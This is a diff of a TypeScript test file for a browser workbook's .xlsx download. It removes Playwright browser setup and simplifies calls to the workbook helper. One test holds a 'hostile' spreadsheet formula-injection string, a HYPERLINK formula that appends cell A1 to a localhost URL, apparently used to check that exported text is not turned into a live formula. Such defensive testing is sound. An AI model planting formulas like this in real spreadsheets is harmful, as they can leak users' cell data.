@@ -1,18 +1,10 @@
 /** The browser workbook taken along as an .xlsx file: what stands in it, read by the file's own library. */
 import ExcelJS from "exceljs";
 import { readFileSync } from "node:fs";
-import type { Browser } from "playwright-core";
-import { launchBrowser } from "./support";
 import { openWithScratch } from "./workbook-page";
 
-let browser: Browser;
-beforeAll(async () => {
-  browser = await launchBrowser();
-});
-afterAll(() => browser.close());
-
 test("downloaded, text stays text, and colours that follow values are there", async () => {
-  const workbook = await openWithScratch(browser);
+  const workbook = await openWithScratch();
   const { page } = workbook;
   const hostile = '=HYPERLINK("http://127.0.0.1/"&A1,"x")';
   await workbook.port(async (port, text) => {
@@ -62,7 +54,7 @@ test("downloaded, text stays text, and colours that follow values are there", as
 });
 
 test("downloaded as .xlsx it holds values, styles and the ledger, so that Excel with INV offers to thaw", async () => {
-  const workbook = await openWithScratch(browser);
+  const workbook = await openWithScratch();
   const { page } = workbook;
   await workbook.port(
     (port) =>
